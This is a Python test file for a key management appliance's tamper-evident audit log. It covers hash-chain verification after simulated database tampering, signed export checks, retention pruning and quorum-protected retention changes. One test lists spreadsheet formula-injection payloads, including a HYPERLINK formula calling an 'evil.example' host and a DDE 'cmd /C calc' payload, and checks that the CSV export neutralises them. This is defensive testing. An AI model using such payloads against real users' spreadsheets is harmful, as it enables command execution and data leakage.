"""The tamper-evident trail: verify names a changed event, exports verify offline (and one
changed byte fails), and pruning by retention keeps verification passing.

Tampering is done the way an intruder with the database file would: drop the guard trigger,
then change or delete rows behind the KMA's back.
"""

from __future__ import annotations

import sqlite3
import subprocess
import sys
from pathlib import Path

import pytest

from kms_client import Conflict, PendingQuorumOp, Retention, ValidationFailed
from tests.integration.helpers import raw_http
from tests.integration.test_quorum import creds
from tests.support.kma_process import RunningKma, run_kma

DAY = 86400


def tamper(kma: RunningKma, *statements: str) -> None:
    conn = sqlite3.connect(kma.data_dir / "kma.db", timeout=30)
    try:
        conn.executescript("BEGIN IMMEDIATE;\n" + ";\n".join(statements) + ";\nCOMMIT;")
    finally:
        conn.close()


def flip_byte(path: Path, offset: int) -> Path:
    data = bytearray(path.read_bytes())
    data[offset] ^= 0x01
    changed = path.with_name("changed-" + path.name)
    changed.write_bytes(bytes(data))
    return changed


def verify_export(*args: str | Path) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "kma", "audit", "verify", *map(str, args)],
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )


def test_a_changed_event_is_found_by_verify_which_names_it(fresh_kma: RunningKma) -> None:
    auditor = fresh_kma.client("auditor")
    assert auditor.verify_audit_chain().intact
    target = auditor.list_audit_events(operation="key.destroy", limit=1).items[0]

    tamper(
        fresh_kma,
        "DROP TRIGGER audit_events_no_update",
        f"UPDATE audit_events SET message = 'nothing happened here' WHERE id = {target.id}",
    )

    report = auditor.verify_audit_chain()
    assert not report.intact
    assert report.first_bad_event_id == target.id
    assert f"#{target.id}" in (report.reason or "")
    cli = run_kma("audit", "verify", "--data-dir", str(fresh_kma.data_dir), check=False)
    assert cli.returncode == 1
    assert f"#{target.id}" in cli.stderr


def test_a_removed_event_is_found_by_verify(fresh_kma: RunningKma) -> None:
    auditor = fresh_kma.client("auditor")
    target = auditor.list_audit_events(operation="key.compromise", limit=1).items[0]
    tamper(
        fresh_kma, "DROP TRIGGER audit_events_no_delete", f"DELETE FROM audit_events WHERE id = {target.id}"
    )
    report = auditor.verify_audit_chain()
    assert not report.intact
    assert report.first_bad_event_id == target.id + 1  # the one after the gap


def test_csv_export_verifies_offline_and_one_changed_byte_fails(demo_kma: RunningKma, tmp_path: Path) -> None:
    auditor = demo_kma.client("auditor")
    ca = tmp_path / "ca.pem"
    ca.write_text(demo_kma.ca_pem)
    export = tmp_path / "events.csv"
    with export.open("wb") as out:
        auditor.export_audit_csv(out, event_class="key")
    text = export.read_text(encoding="utf-8")
    assert text.startswith("id,kma_id,chain_seq,created_at,")
    assert "key.destroy" in text and "key.compromise" in text and "auth.sign_in" not in text

    ok = verify_export("--export", export, "--ca", ca)
    assert ok.returncode == 0, ok.stderr
    assert "Export verified (csv)" in ok.stdout

    in_a_row = text.index("Retention ended")  # a destroy comment, inside a row
    for offset in (in_a_row, len(export.read_bytes()) - 20):  # a row, then the signature trailer
        bad = verify_export("--export", flip_byte(export, offset), "--ca", ca)
        assert bad.returncode == 1, f"byte {offset} changed but the export still verified"
        assert "does NOT verify" in bad.stderr


def test_an_export_is_not_called_verified_without_a_ca_to_trust(demo_kma: RunningKma, tmp_path: Path) -> None:
    """Given a signed export and no --ca or --data-dir, when verified, then the exit code is not 0
    (a forger can sign with a CA of their own) and the message says what to give (finding 14)."""
    export = tmp_path / "events.csv"
    with export.open("wb") as out:
        demo_kma.client("auditor").export_audit_csv(out, event_class="key")
    untrusted = verify_export("--export", export)
    assert untrusted.returncode != 0
    assert "verified" not in untrusted.stdout
    assert "NOT verified" in untrusted.stderr and "--ca" in untrusted.stderr
    assert demo_kma.fingerprint in untrusted.stderr


FORMULAS = [
    '=HYPERLINK("http://evil.example/?x","click")',
    "@SUM(A1:A9)",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "\tleading tab",
    "'already quoted",
]


def test_csv_export_neutralises_formulas_and_still_verifies(fresh_kma: RunningKma, tmp_path: Path) -> None:
    """Given sign-ins by strangers whose user IDs are spreadsheet formulas (audited as typed, as the
    subject of an anonymous refusal),
    the export has no cell a spreadsheet would run, and the offline check recovers every value."""
    import csv

    with raw_http(fresh_kma) as http:
        for user_id in FORMULAS:
            http.post("/auth/sign-in", json={"user_id": user_id, "passphrase": "anything at all"})
    export = tmp_path / "events.csv"
    with export.open("wb") as out:
        fresh_kma.client("auditor").export_audit_csv(out, operation="auth.sign_in", condition="error")
    body = export.read_text(encoding="utf-8").rsplit("#KMA-EXPORT-SIGNATURE ", 1)[0]
    rows = list(csv.DictReader(body.splitlines(keepends=True)))
    ids = [row["subject_id"] for row in rows]  # a stranger is 'anonymous'; the ID typed is the subject
    for user_id in FORMULAS:
        assert "'" + user_id in ids  # the value, behind one apostrophe
    cells = [cell for row in rows for cell in row.values()]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]

    ca = tmp_path / "ca.pem"
    ca.write_text(fresh_kma.ca_pem)
    ok = verify_export("--export", export, "--ca", ca)
    assert ok.returncode == 0, ok.stderr
    assert f"{len(rows)} events, each event's hash recomputed and matching" in ok.stdout


def test_signed_report_states_the_chain_result_and_verifies_offline(
    demo_kma: RunningKma, tmp_path: Path
) -> None:
    auditor = demo_kma.client("auditor")
    report = auditor.get_audit_report(operation="key.destroy")
    assert report.chain.intact
    assert "Audit chain INTACT" in report.html and "key.destroy" in report.html
    html, sig = report.save(tmp_path / report.filename)

    ok = verify_export("--export", html, "--data-dir", demo_kma.data_dir)
    assert ok.returncode == 0, ok.stderr
    assert "chain verification stated in it: INTACT" in ok.stdout

    changed = flip_byte(html, html.read_bytes().index(b"INTACT"))
    bad = verify_export("--export", changed, "--signature", sig, "--data-dir", demo_kma.data_dir)
    assert bad.returncode == 1 and "changed after it was signed" in bad.stderr


def test_pruning_by_retention_keeps_verify_passing(fresh_kma: RunningKma) -> None:
    # Given a year of history and a clock moved 400 days on: short (90 d) and medium (1 y)
    # events are past their period, long (7 y) ones are not.
    fresh_kma.advance_clock(400 * DAY)
    so, auditor = fresh_kma.client("so"), fresh_kma.client("auditor")
    first = auditor.list_audit_events(order="asc", limit=1).items[0]
    assert first.operation == "cluster.create" and first.retention == "long"
    medium = auditor.list_audit_events(retention="medium", order="asc", limit=1).items[0]
    before = auditor.list_audit_events(limit=1)
    newest_before = before.items[0].id

    result = so.prune_audit_events()

    assert result.removed > 0
    added = auditor.list_audit_events(after_id=newest_before, limit=1).total  # the prune's own events
    assert auditor.list_audit_events(limit=1).total == before.total - result.removed + added
    report = auditor.verify_audit_chain()
    assert report.intact, report.reason
    assert report.checkpoints and report.checkpoints[0].kma_id == first.kma_id
    assert auditor.list_audit_events(operation="cluster.create").total == 1  # long is kept
    assert medium.id not in {e.id for e in auditor.iter_audit_events(retention="medium", limit=1000)}
    pruned = auditor.list_audit_events(operation="audit.prune", limit=1).items[0]
    assert pruned.entity_id == "so" and f"pruned {result.removed} audit events" in pruned.message
    assert run_kma("audit", "verify", "--data-dir", str(fresh_kma.data_dir)).returncode == 0

    # Pruning again removes nothing more and still verifies.
    assert so.prune_audit_events().removed == 0
    assert auditor.verify_audit_chain().intact

    # Below the checkpoint, a kept event is still protected, and so is the checkpoint itself.
    tamper(
        fresh_kma,
        "DROP TRIGGER audit_events_no_update",
        f"UPDATE audit_events SET entity_id = 'nobody' WHERE id = {first.id}",
    )
    report = auditor.verify_audit_chain()
    assert not report.intact and report.first_bad_event_id == first.id


def test_a_removed_checkpoint_or_kept_event_below_it_breaks_verify(fresh_kma: RunningKma) -> None:
    fresh_kma.advance_clock(400 * DAY)
    so, auditor = fresh_kma.client("so"), fresh_kma.client("auditor")
    so.prune_audit_events()
    so.prune_audit_events()  # a second, newer checkpoint
    newest = auditor.list_audit_checkpoints()[0]
    tamper(
        fresh_kma,
        "DROP TRIGGER audit_checkpoints_no_delete",
        f"DELETE FROM audit_checkpoints WHERE id = {newest.id}",
    )
    assert auditor.verify_audit_chain().intact  # the older checkpoint still covers what was kept

    kept = auditor.list_audit_events(operation="key.destroy", limit=1).items[0]
    tamper(fresh_kma, "DROP TRIGGER audit_events_no_delete", f"DELETE FROM audit_events WHERE id = {kept.id}")
    report = auditor.verify_audit_chain()
    assert not report.intact and "checkpoint" in (report.reason or "")


def test_events_cannot_be_deleted_outside_pruning(fresh_kma: RunningKma) -> None:
    with pytest.raises(sqlite3.IntegrityError, match="cannot be removed"):
        tamper(fresh_kma, "DELETE FROM audit_events WHERE id = 1")


def test_retention_periods_are_settings_with_rules(fresh_kma: RunningKma) -> None:
    so, auditor = fresh_kma.client("so"), fresh_kma.client("auditor")
    assert auditor.get_audit_retention().short == 90 * DAY
    changed = so.set_audit_retention(short=120 * DAY)  # longer: runs at once
    assert isinstance(changed, Retention)
    assert changed.short == 120 * DAY and changed.long >= changed.medium >= changed.short
    with pytest.raises(ValidationFailed):
        so.set_audit_retention(medium=10 * 365 * DAY)  # longer than long
    assert auditor.list_audit_events(operation="audit.retention", limit=1).items[0].entity_id == "so"


def test_one_officer_cannot_shorten_retention_to_erase_history(fresh_kma: RunningKma) -> None:
    """Floors (long a year, medium 90 days, short 30 days) hold for everyone; above them, shortening
    is quorum-protected: alone, a Security Officer's shortening only waits for approval."""
    so, auditor, qm1 = fresh_kma.client("so"), fresh_kma.client("auditor"), fresh_kma.client("qm1")
    for too_short, reason in [
        ({"long": 2 * DAY}, "long retention period must be 1 y 0 d"),
        ({"medium": 30 * DAY}, "medium retention period must be 90 d"),
        ({"short": 7 * DAY}, "short retention period must be 30 d"),
    ]:
        with pytest.raises(ValidationFailed, match=reason):
            so.set_audit_retention(**too_short, credentials=creds(fresh_kma, "alice", "bob", "carol"))
    before = auditor.get_audit_retention()

    pending = so.set_audit_retention(long=365 * DAY, medium=90 * DAY, short=30 * DAY)
    assert isinstance(pending, PendingQuorumOp) and pending.type == "shorten_audit_retention"
    assert "long 7 y 2 d -> 1 y 0 d" in pending.summary
    assert auditor.get_audit_retention() == before  # nothing changed yet
    so.delete_quorum_operation(pending.id)

    op = so.set_audit_retention(long=365 * DAY, credentials=creds(fresh_kma, "alice"))
    assert isinstance(op, PendingQuorumOp)
    for member in ("bob", "carol"):
        op = qm1.approve_quorum_operation(op.id, *creds(fresh_kma, member)[0])
    assert op.state == "executed"
    assert auditor.get_audit_retention().long == 365 * DAY
    executed = auditor.list_audit_events(operation="quorum.execute", subject_id="retention").items[0]
    assert "long 1 y 0 d" in executed.message


def test_pruning_refuses_a_broken_trail(fresh_kma: RunningKma) -> None:
    so, auditor = fresh_kma.client("so"), fresh_kma.client("auditor")
    target = auditor.list_audit_events(operation="key.issue", limit=1).items[0]
    tamper(
        fresh_kma,
        "DROP TRIGGER audit_events_no_update",
        f"UPDATE audit_events SET message = 'x' WHERE id = {target.id}",
    )
    with pytest.raises(Conflict, match="does not verify"):
        so.prune_audit_events()
    refused = auditor.list_audit_events(operation="audit.prune", limit=1).items[0]
    assert refused.condition == "error"


def test_an_altered_checkpoint_signature_is_reported(fresh_kma: RunningKma) -> None:
    so, auditor = fresh_kma.client("so"), fresh_kma.client("auditor")
    checkpoint = so.create_audit_checkpoint()[0]
    assert auditor.verify_audit_chain().checkpoints[0].id == checkpoint.id
    tamper(
        fresh_kma,
        "DROP TRIGGER audit_checkpoints_no_update",
        f"UPDATE audit_checkpoints SET retained_count = retained_count - 1 WHERE id = {checkpoint.id}",
    )
    report = auditor.verify_audit_chain()
    assert not report.intact
    reason = report.reason or ""
    assert f"checkpoint #{checkpoint.id}" in reason and "does not check" in reason


def test_the_kma_prunes_by_itself_once_a_day_when_told_to(fresh_kma: RunningKma) -> None:
    """Off by default; turned on, the KMA runs the same verified, checkpointed prune itself, as
    the actor of its audit event, and again only once a day has passed since the last prune."""
    import time

    from tests.support.waiting import wait_until

    fresh_kma.advance_clock(400 * DAY)  # short and medium events are past their period
    so, auditor = fresh_kma.client("so"), fresh_kma.client("auditor")
    assert not auditor.get_audit_retention().auto_prune

    def prunes() -> list[object]:
        return auditor.list_audit_events(operation="audit.prune", condition="success", limit=100).items

    time.sleep(1.0)  # a wait for nothing to happen: nobody prunes while it is off
    assert prunes() == []

    turned = so.set_audit_retention(auto_prune=True)  # the change wakes the KMA's check
    assert turned.auto_prune
    [first] = wait_until(prunes, 30, what="the KMA's own prune")
    assert first.entity_id == "kma-dal-1" and "pruned" in first.message  # the KMA itself
    assert auditor.verify_audit_chain().intact
    changed = auditor.list_audit_events(operation="audit.retention", limit=1).items[0]
    assert "pruning every day" in changed.message and changed.entity_id == "so"

    so.set_audit_retention(short=100 * DAY)  # wakes the check again: not due, a day has not passed
    time.sleep(1.5)  # a wait for nothing to happen: no second prune within a day
    assert len(prunes()) == 1
    fresh_kma.advance_clock(2 * DAY)
    so, auditor = fresh_kma.client("so"), fresh_kma.client("auditor")  # (sessions expired meanwhile)
    so.set_audit_retention(short=101 * DAY)  # due now
    wait_until(lambda: len(prunes()) == 2, 30, what="the second prune, a day later")
    off = so.set_audit_retention(auto_prune=False)
    assert not off.auto_prune and auditor.get_audit_retention().long == off.long
